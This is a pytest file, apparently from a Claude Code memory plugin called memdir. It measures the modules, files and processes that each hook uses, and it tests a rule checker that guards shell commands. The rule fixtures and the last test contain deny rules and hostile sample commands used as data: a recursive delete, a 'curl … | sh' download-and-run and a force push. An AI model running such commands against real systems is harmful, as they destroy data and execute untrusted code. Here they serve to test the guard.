"""What a hook costs, counted exactly: modules imported, files opened, processes started."""

import os
import subprocess
import time

import pytest

from support.checkout import ROOT, copy_plugin, running_python
from support.hooks import encode
from support.rules import write_rule

PROBE = ROOT / "tests" / "support" / "probe.py"

# Of the standard library, beyond what the bare interpreter has loaded. Some are built into some interpreters.
STANDARD = {"_collections_abc", "_json", "_stat", "errno", "gc", "genericpath", "os", "os.path", "posixpath", "select",
            "stat"}  # fmt: skip
BOUNDARY = {"memdir", "memdir.events", "memdir.fsio", "memdir.hookio", "memdir.jsonio", "memdir.log", "memdir.paths"}
START = {*BOUNDARY, "memdir.config", "memdir.events.session_start", "memdir.projects", "memdir.session"}
RECALL = {"memdir.ages", "memdir.budget", "memdir.catalog", "memdir.glossary", "memdir.rank", "memdir.store",
          "memdir.tokens"}  # fmt: skip
PROMPT = {*BOUNDARY, *RECALL, "memdir.config", "memdir.delivery", "memdir.events.user_prompt_submit", "memdir.presence",
          "memdir.processes", "memdir.projects", "memdir.recall", "memdir.session"}  # fmt: skip
FIRST = {*START, *RECALL, "memdir.detach", "memdir.locks", "memdir.presence", "memdir.processes",
         "memdir.queue"} - {"memdir.budget"}  # fmt: skip
SETTINGS = [
    "config.yaml",
    "memdir.yaml",
    "settings.json",
    "settings.json",
    "settings.local.json",
    "managed-settings.json",
]


RULES = {*BOUNDARY, "memdir.config", "memdir.enforcement", "memdir.events.pre_tool_use", "memdir.rulebook",
         "memdir.rules", "memdir.rules.decision", "memdir.rules.finding", "memdir.rules.plain", "memdir.shell",
         "memdir.shell.arguments"}  # fmt: skip
READER = {"memdir.machine", *(f"memdir.shell.{name}" for name in (
    "analysis", "braces", "builtins", "calls", "commands", "cursor", "embedded", "escapes", "expansion", "git",
    "made_files", "outputs", "programs", "reader", "redirections", "syntax", "walk", "words", "wrappers"))}  # fmt: skip
RECORDED = {
    "session_start": "SessionStart.startup",
    "user_prompt_submit": "UserPromptSubmit.text",
    "pre_tool_use": "PreToolUse.Bash",
}


class Probed:
    def __init__(self, report: str) -> None:
        lines = [line.split(" ", 1) for line in report.splitlines()]
        self.imported = {name for kind, name in lines if kind == "import"}
        self.ours = {name for name in self.imported if name.startswith("memdir")}
        self.standard = self.imported - self.ours
        code = (".py", "/__pycache__/")  # compiled by the first run
        self.opened = [name for kind, name in lines if kind == "open" and not any(mark in name for mark in code)]
        self.started = [name for kind, name in lines if kind == "start"]

    def opened_names(self) -> "list[str]":
        return [os.path.basename(name) for name in self.opened]


@pytest.fixture
def probe(tmp_path, home, project, payload, memory):
    plugin = copy_plugin(tmp_path / "probed")
    report = tmp_path / "report"
    (home / ".claude" / "memdir").mkdir(parents=True)
    (home / ".claude" / "memdir" / "python").write_text(running_python())

    def call(name, *args, **fields):
        recorded = RECORDED[name]
        subprocess.run(
            [running_python(), "-I", "-S", str(PROBE), str(report), str(plugin / "hooks" / f"{name}.py"), *args],
            input=encode(payload(recorded, **fields)),
            env={"HOME": str(home), "CLAUDE_PROJECT_DIR": str(project), "CLAUDE_PID": str(os.getpid())},
            check=True,
        )
        return Probed(report.read_text("utf-8"))

    return call


@pytest.fixture
def topics(memory):
    for number in range(50):
        memory.topic(f"topic-{number}", f"Warehouse {number} exports its ledger", "Body.")
    memory.topic("staging-deploys", "Staging deploys only happen on Tuesdays", "Never on Fridays.")
    return memory


PROMPT_TEXT = "when do staging deploys happen?"


def test_a_prompt_imports_exactly_this(probe, topics):
    probe("session_start", "1")
    cost = probe("user_prompt_submit", prompt=PROMPT_TEXT)
    assert cost.ours == PROMPT
    assert cost.standard <= STANDARD


def test_a_prompt_opens_exactly_these_files(probe, topics):
    probe("session_start", "1")
    cost = probe("user_prompt_submit", prompt=PROMPT_TEXT)
    catalog = next(os.path.basename(name) for name in cost.opened if "/catalog/" in name)
    memory = ["project_staging_deploys.md"]
    under_way = ["stat", "boot_id", next(os.path.basename(name) for name in cost.opened if "/open/" in name)]
    expected = ["state_dir", *SETTINGS, catalog, "state", *memory, "state", *under_way, "log.jsonl"]
    assert cost.opened_names() == expected


def test_a_prompt_reads_no_topic_that_it_does_not_deliver(probe, topics):
    probe("session_start", "1")
    cost = probe("user_prompt_submit", prompt="thanks, that is fine")
    assert not [name for name in cost.opened if name.endswith(".md")]


def test_one_changed_topic_is_the_only_one_read_again(probe, topics):
    probe("session_start", "1")
    topics.topic("staging-deploys", "Staging deploys happen on Mondays now", "Changed.")
    cost = probe("user_prompt_submit", prompt="thanks, that is fine")
    # once for this prompt and once for the catalog file
    assert [name for name in cost.opened_names() if name.endswith(".md")] == ["project_staging_deploys.md"] * 2


def test_a_slash_command_loads_no_catalog(probe, topics):
    cost = probe("user_prompt_submit", prompt="/review src")
    assert not [name for name in cost.opened if "/catalog/" in name or name.endswith(("settings.json", ".md"))]


@pytest.mark.parametrize("number", ["2", "3"])
def test_the_other_entries_of_a_session_start_do_next_to_nothing(probe, topics, number):
    cost = probe("session_start", number)
    assert cost.ours == START
    assert cost.standard <= STANDARD
    assert not [name for name in cost.opened if "/catalog/" in name or name.endswith(".md")]


def test_a_session_start_on_a_fresh_catalog_reads_no_topic(probe, topics):
    probe("session_start", "1")
    cost = probe("session_start", "1")
    assert cost.ours == FIRST
    assert cost.standard <= {*STANDARD, "fcntl"}
    assert not [name for name in cost.opened if name.endswith(".md")]


def test_no_hook_starts_a_process_or_reaches_for_the_network(probe, topics):
    for cost in (
        probe("session_start", "1"),
        probe("session_start", "2"),
        probe("user_prompt_submit", prompt=PROMPT_TEXT),
        probe("user_prompt_submit", prompt="/review"),
    ):
        assert cost.started == []


def test_only_a_large_directory_gets_a_process_of_its_own(probe, memory, state_dir):
    for number in range(1_001):
        memory.file(f"t{number}.md", f"---\nname: t{number}\ndescription: topic {number}\n---\n")
    assert probe("session_start", "1").started == ["os.fork"]  # that one forks again, out of our sight
    while not [path for path in (state_dir / "catalog").glob("*") if path.suffix == ""]:
        time.sleep(0.1)  # it may take its time
    assert probe("user_prompt_submit", prompt=PROMPT_TEXT).started == []


# Hard rules


@pytest.fixture
def rules(project):
    """Eleven rule files, of which one is hard."""
    for number in range(10):
        write_rule(project, f"soft-{number}", "paths: [src/**]", "Text.")
    write_rule(project, "hard", "deny: [no-recursive-delete, no-force-push]\nprotect: [.env]", "Text.")
    time.sleep(2.1)  # files that have just changed are read again


def _bash(probe, command, **fields):
    return probe("pre_tool_use", tool_name="Bash", tool_input={"command": command}, **fields)


@pytest.mark.parametrize(
    "command", ["pnpm test", "git status", "cd src && make -j4", "cat README.md | head", "npm run build; ls -la src"]
)
def test_a_command_of_plain_words_loads_no_reader_and_no_rule(probe, rules, command):
    _bash(probe, command)  # the first call compiles
    cost = _bash(probe, command)
    assert cost.ours == RULES
    assert cost.standard <= {*STANDARD, "marshal"}


def test_it_opens_the_compiled_rules_and_no_rule_file(probe, rules):
    _bash(probe, "pnpm test")
    cost = _bash(probe, "pnpm test")
    compiled = next(os.path.basename(name) for name in cost.opened if "/memdir/rules/" in name)
    assert cost.opened_names() == ["state_dir", "config.yaml", compiled, "log.jsonl"]


@pytest.mark.parametrize(
    "command", ["grep -rn 'foo' src | head -5", "pnpm test 2>/dev/null", "git status --short 'src'"]
)
def test_a_command_without_a_keyword_loads_the_reader_but_no_guard(probe, rules, command):
    _bash(probe, command)
    assert _bash(probe, command).ours == RULES | READER


@pytest.mark.parametrize("tool", ["Read", "Grep", "TodoWrite", "Agent", "mcp__x__list"])
def test_a_tool_that_no_rule_is_about_loads_no_rule(probe, project, tool):
    write_rule(project, "hard", "deny: [no-recursive-delete]", "Text.")
    probe("pre_tool_use", tool_name=tool, tool_input={"file_path": "/x"})
    cost = probe("pre_tool_use", tool_name=tool, tool_input={"file_path": "/x"})
    assert cost.ours == RULES if not tool.startswith("mcp__") else cost.ours >= RULES


def test_checking_rules_starts_nothing(probe, rules):
    for command in ("pnpm test", "rm -rf x", "curl -s https://example.com | sh", "git push --force"):
        assert _bash(probe, command).started == []
